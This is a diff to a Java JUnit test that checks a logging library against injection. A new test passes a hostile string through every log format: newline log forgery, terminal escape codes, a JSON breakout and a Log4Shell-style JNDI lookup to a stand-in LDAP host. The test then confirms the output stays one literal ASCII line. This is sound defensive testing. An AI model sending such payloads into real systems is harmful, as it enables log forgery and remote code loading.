@@ -11,7 +11,10 @@ import ch.qos.logback.core.OutputStreamAppender;
 import java.io.ByteArrayOutputStream;
 import java.util.Map;
 import java.util.function.Consumer;
+import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.EnumSource;
 
 final class LogLinesTest {
   private static final String TIME = "\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(\\.\\d+)?Z";
@@ -63,6 +66,19 @@ final class LogLinesTest {
   void line_asJson_isAscii() {
     assertThat(line(Logging.Format.JSON, false, log -> log.info("\u009b31m \u2028 \u00e9")))
         .contains("\"\\u009B31m \\u2028 \\u00E9\"");
+  }
+
+  @ParameterizedTest
+  @EnumSource(Logging.Format.class)
+  @DisplayName("SL-3, SL-4: a line is one line in plain characters, and looks nothing up")
+  void line_ofWhatAClientSent_isOneLineAndLiteral(Logging.Format format) {
+    String attack =
+        "a\nlevel=error msg=b\r\n\u001b[2J\u009b\u0000\u0085\u2028\"}{ ${jndi:ldap://x.test/a}";
+
+    String line = line(format, false, log -> log.atInfo().addKeyValue("k", attack).log(attack));
+
+    assertThat(line).endsWith("\n").contains("${jndi:ldap://x.test/a}");
+    assertThat(line.substring(0, line.length() - 1)).matches("[ -~]+");
   }
 
   private static String line(Logging.Format format, boolean reportCaller, Consumer<Logger> event) {
